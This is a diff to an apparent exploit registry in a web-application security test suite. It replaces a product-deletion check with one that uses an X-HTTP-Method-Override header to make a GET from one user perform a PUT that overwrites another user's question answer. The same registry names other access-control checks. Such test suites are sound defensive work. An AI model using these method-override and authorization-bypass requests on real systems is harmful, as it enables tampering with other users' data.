@@ -159,10 +159,12 @@ def news_put(visitor: Any) -> bool:
     return visitor.send("GET", f"/news/{item['id']}").json["title"] == "Bob was here"
 
 
-def product_override(visitor: Any) -> bool:
-    path = a_product(visitor)
-    visitor.send("GET", path, "bob", headers={"X-HTTP-Method-Override": "DELETE"})
-    return visitor.send("GET", path).status == 404
+def question_override(visitor: Any) -> bool:
+    body = {"title": "May I bring my dog?", "answer": "Gladly"}
+    path = f"/questions/{made(visitor, '/questions', body, 'sam')['id']}"
+    headers = {"X-HTTP-Method-Override": "PUT"}
+    visitor.send("GET", path, "bob", body={**body, "answer": "Bob was here"}, headers=headers)
+    return visitor.send("GET", path, "sam").json["answer"] == "Bob was here"
 
 
 def sign_up_role(visitor: Any) -> bool:
@@ -227,7 +229,7 @@ EXPLOITS: dict[str, Callable[[Any], bool]] = {
     "product-change-by-patients": product_change,
     "salaries-for-staff": salaries,
     "news-undocumented-put": news_put,
-    "product-method-override": product_override,
+    "question-method-override": question_override,
     "sign-up-role": sign_up_role,
     "account-balance": balance,
     "order-total": order_total,
